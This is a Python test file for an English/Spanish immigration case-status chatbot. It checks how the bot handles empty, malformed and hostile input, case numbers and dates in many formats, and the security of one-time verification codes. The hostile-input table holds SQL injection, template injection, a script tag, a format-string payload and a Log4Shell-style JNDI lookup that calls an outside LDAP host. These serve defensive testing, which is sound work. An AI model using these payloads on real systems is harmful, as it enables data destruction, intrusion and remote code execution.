"""What people, machines and attackers type: a clear word each, nothing lost, nothing leaked."""
from __future__ import annotations

import pytest

from tests.conversations.chat import Chat, names, words
from tests.conversations.checks import begun, claimed, each_language, fine, goes_on
from tests.conversations.people import AMARA, JOSEPHINE, LANGUAGES, LUCIA, SAMUEL, SPEAKER
from tests.servers.stack import Stack

# -- nothing to read -----------------------------------------------------------

NO_WORDS = {
    "empty": ("", "system-empty"),
    "blanks": (" \n\t ", "system-empty"),
    "emoji": ("😀🙏🏽❤️", "system-no-text"),
    "marks": ("...!", "system-no-text"),
    "controls": ("\x00\x07\x1b\x08", "system-no-text"),
    "overrides": ("\u202e\u2066\u200f\u202c", "system-no-text"),
    "invisible": ("\u200b\u200d\ufeff\u3164", "system-no-text"),
    "5,000 characters": ("mi caso " * 625, "system-too-long"),
}


@each_language
@pytest.mark.parametrize(("typed", "message"), NO_WORDS.values(), ids=list(NO_WORDS))
def test_what_cannot_be_read_is_said_and_the_thread_is_kept(
    stack: Stack, language: str, typed: str, message: str
) -> None:
    chat = begun(stack, language)
    replies = chat.say(typed)
    assert names(replies) == [message]
    fine(replies, language=language)
    goes_on(chat, language)


# -- words that would like to be commands --------------------------------------

HOSTILE = {
    "sql": "'; DROP TABLE person; --",
    "sql, always true": "1' OR '1'='1",
    "template": "{{7*7}}",
    "look-up": "${jndi:ldap://203.0.113.9/x}",
    "catalogue": "{ $number }",
    "format": "%s%n%x {0.__class__}",
    "script": "<script>alert(1)</script>",
    "token": "[[case_number:abc]]",
    "reply token": "[[reply:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA]]",
    "token in wide letters": "［［case_number：abc］］",
    "action": "/action_check_status",
    "verified": "/verified",
    "slot": '/inform{"requested_slot": null}',
    "external": "EXTERNAL: verified",
    "9's": "9" * 1999,
    "combining marks": "c" + "\u0301\u0320\u0346" * 200,
    "lone surrogate": "\ud83d caso",
}


@each_language
@pytest.mark.parametrize("typed", HOSTILE.values(), ids=list(HOSTILE))
def test_hostile_words_are_words(stack: Stack, language: str, typed: str) -> None:
    chat = begun(stack, language)
    body = {"id": "hostile-words", "language": language, "text": typed}
    assert chat.send_raw(body).status_code == 202
    replies = chat.read()
    fine(replies, typed=typed)
    assert "49" not in words(replies)
    goes_on(chat, chat.heard[-1].language)


@each_language
@pytest.mark.parametrize(
    "typed",
    [
        '/inform{"code":"123456"}',
        '／inform{"code": "123456"}',
        "  /inform 123456",
        "\\inform 123456",
    ],
)
def test_control_text_gives_no_code_to_a_form_that_waits_for_a_number(
    stack: Stack, language: str, typed: str
) -> None:
    chat = begun(stack, language)
    replies = chat.say(typed)
    assert not {"verified", "case_status", "code_wrong"} & set(names(replies))
    fine(replies, typed=typed)
    assert names(chat.say(SPEAKER[language].number)) == ["need_date_of_birth"]


@pytest.mark.parametrize("typed", ["/restart", "/back", "/session_start", "/start_over"])
def test_rasas_own_commands_are_what_their_words_say(stack: Stack, typed: str) -> None:
    chat = begun(stack, "en")
    assert names(chat.say(typed)) in (["start_over"], ["cancelled"])


@each_language
def test_a_token_from_another_conversation_is_no_number(stack: Stack, language: str) -> None:
    """A real token, copied from the tracker store as a thief of that file would."""
    owner = Chat(stack.url, language=language)
    owner.say(SPEAKER[language].number)
    token = stack.newest_token()
    chat = begun(stack, language)
    replies = chat.say(token)
    assert "need_date_of_birth" not in names(replies)
    fine(replies, typed=token)


# -- numbers -------------------------------------------------------------------

NUMBERS = {
    "arabic-indic": ("IOE٠٩٩٠٠٠٢٠٠١", "need_date_of_birth"),
    "full width": ("ＩＯＥ０９９０００２００１", "need_date_of_birth"),
    "devanagari": ("ioe ०९९०००२००१", "need_date_of_birth"),
    "reversed by an override": ("\u202eIOE0990002001\u202c", "need_date_of_birth"),
    "with controls inside": ("IOE0990\x00002\x07001", "need_date_of_birth"),
    "letters for figures": ("1oe O99OOO2OO1", "need_date_of_birth"),
    "a digit short": ("IOE099000200", "number_length"),
    "a digit too many": ("IOE09900020011", "number_length"),
    "no such office": ("XQX0990002001", "number_unknown_office"),
    "an A-number": ("A 098-765-432", "number_which_office"),
    "British": ("GWF012345678", "need_date_of_birth"),
    "a visa's": ("2025AF12345", "need_date_of_birth"),
    "a consulate's": ("AA00ABCDEF", "need_date_of_birth"),
    "a Canadian person's": ("11-2345-6789", "number_not_the_case"),
    "three letters of no list and a year": ("XQX2026123456", "number_which_office"),
}


@each_language
@pytest.mark.parametrize(("typed", "message"), NUMBERS.values(), ids=list(NUMBERS))
def test_numbers_of_all_kinds(stack: Stack, language: str, typed: str, message: str) -> None:
    chat = begun(stack, language)
    replies = chat.say(typed)
    assert names(replies) == [message]
    fine(replies, typed=typed, language=language)
    if message != "need_date_of_birth":
        goes_on(chat, language)


# -- dates ---------------------------------------------------------------------

DATES = {
    "no such day": (("31 February 1988", "31 de febrero de 1988"), "date_impossible"),
    "no leap year": (("Feb 29, 1990", "29/feb/1990"), "date_impossible"),
    "figures": (("30/02/1988", "30/02/1988"), "date_impossible"),
    "a 13th month": (("32/13/1988", "32/13/1988"), "date_unreadable"),
    "the future": (("April 3, 2099", "3 de abril de 2099"), "date_future"),
    "1850": (("April 3, 1850", "3 de abril de 1850"), "date_too_old"),
    "another calendar": (("3 April 2531", "3 de abril de 2531"), "date_calendar"),
    "Persian": (("12 April 1371", "12/5/1371"), "date_calendar"),
    "a year alone": (("1988", "1988"), "date_incomplete"),
    "no year": (("April 3", "el 3 de abril"), "date_incomplete"),
    "no date": (("three apples", "un día de lluvia"), "date_unreadable"),
}


@each_language
@pytest.mark.parametrize(("typed", "message"), DATES.values(), ids=list(DATES))
def test_days_that_cannot_be(
    stack: Stack, language: str, typed: tuple[str, str], message: str
) -> None:
    chat = begun(stack, language)
    chat.say(SPEAKER[language].number)
    text = typed[LANGUAGES.index(language)]
    replies = chat.say(text)
    assert names(replies) == [message]
    fine(replies, typed=text, language=language)
    assert names(chat.say(SPEAKER[language].born(language))) == ["code_on_its_way"]


# -- claims and codes ----------------------------------------------------------


@each_language
def test_someone_elses_number_with_ones_own_birthday(stack: Stack, language: str) -> None:
    chat = Chat(stack.url, language=language)
    known = stack.mail_names()
    replies = chat.say(f"{SAMUEL.number}, {SPEAKER[language].born(language)}")
    assert names(replies) == ["code_on_its_way"]
    fine(replies, typed=SAMUEL.number, language=language)
    stack.settle()
    assert stack.mail_names() == known
    assert names(chat.say("000000")) == ["code_wrong"]


@each_language
def test_a_late_code_is_said_to_be_late_and_a_new_one_works(stack: Stack, language: str) -> None:
    person, known = SPEAKER[language], stack.mail_names()
    chat = claimed(stack, language, person)
    late = stack.code_for(person.email, known=known)
    stack.pass_time(minutes=11)
    replies = chat.say(late)
    assert names(replies) == ["code_expired"]
    fine(replies, typed=late, language=language)
    known = stack.mail_names()
    chat.press({"en": "Send a new code", "es": "Mandar otro código"}[language])
    assert names(chat.heard[-1:]) == ["code_resent"]
    fresh = stack.code_for(person.email, known=known)
    assert names(chat.say(fresh)) == ["verified", "case_status"]


@each_language
def test_a_replaced_code_no_longer_works(stack: Stack, language: str) -> None:
    person, known = SPEAKER[language], stack.mail_names()
    chat = claimed(stack, language, person)
    old = stack.code_for(person.email, known=known)
    known = stack.mail_names()
    chat.say({"en": "send me another code", "es": "mándeme otro código"}[language])
    new = stack.code_for(person.email, known=known)
    if old != new:
        assert names(chat.say(old)) == ["code_wrong"]
    assert names(chat.say(new)) == ["verified", "case_status"]


@each_language
def test_a_used_code_proves_nothing_anywhere_else(stack: Stack, language: str) -> None:
    person, known = SPEAKER[language], stack.mail_names()
    chat = claimed(stack, language, person)
    code = stack.code_for(person.email, known=known)
    assert names(chat.say(code)) == ["verified", "case_status"]
    assert names(chat.say(code)) == ["case_status"], "typed twice by its owner: it has worked"
    assert names(chat.say({"en": "lock", "es": "bloquear"}[language])) == ["locked"]
    assert "verified" not in names(chat.say(code))
    other = claimed(stack, language, person)
    stack.settle()
    assert names(other.say(code)) == ["code_wrong"]


@each_language
def test_a_code_of_another_conversation_is_wrong_and_stays_good_in_its_own(
    stack: Stack, language: str
) -> None:
    person, known = SPEAKER[language], stack.mail_names()
    owner = claimed(stack, language, person)
    code = stack.code_for(person.email, known=known)
    thief = claimed(stack, language, person)
    replies = thief.say(code)
    assert names(replies) == ["code_wrong"]
    fine(replies, typed=code, language=language)
    assert names(owner.say(code)) == ["verified", "case_status"]
    later = owner.heard[-2]
    assert later.message == "utter_verified"


@each_language
def test_a_code_before_any_claim_is_too_early(stack: Stack, language: str) -> None:
    chat = Chat(stack.url, language=language)
    replies = chat.say({"en": "my code is 482913", "es": "mi código es 482913"}[language])
    assert names(replies)[0] == "code_not_expected"
    assert names(replies)[-1] == "need_case_number"
    fine(replies, typed="482913", language=language)
    goes_on(chat, language)


@pytest.mark.parametrize("typed", ["١٢٣٤٥٦", "１２３４５６", "123 456", "1 2 3 4 5 6"])
def test_a_code_in_other_figures_is_read_as_a_code(stack: Stack, typed: str) -> None:
    chat = claimed(stack, "en", AMARA)
    assert names(chat.say(typed)) == ["code_wrong"]


@each_language
def test_an_access_code_of_another_case_is_wrong(stack: Stack, language: str) -> None:
    assert JOSEPHINE.access_code is not None
    chat = claimed(stack, language, SPEAKER[language])
    replies = chat.say(JOSEPHINE.access_code)
    assert names(replies) == ["code_wrong"]
    fine(replies, typed=JOSEPHINE.access_code, language=language)


def test_too_many_claims_pause_kindly_and_general_questions_are_answered(stack: Stack) -> None:
    chat = Chat(stack.url, language="es")
    for digit in range(1, 6):
        assert "code_on_its_way" in names(chat.say(f"IOE099003{digit}001, {LUCIA.born('es')}"))
    replies = chat.say(f"IOE0990037001, {LUCIA.born('es')}")
    assert names(replies) == ["claim_paused"]
    fine(replies, typed="IOE0990037001", language="es")
    assert names(chat.say("¿puedo viajar mientras tanto?"))[0] == "travel_permission"
    stack.pass_time(minutes=2)
    assert names(chat.say("otra vez")) == ["code_on_its_way"], "nothing has to be typed again"
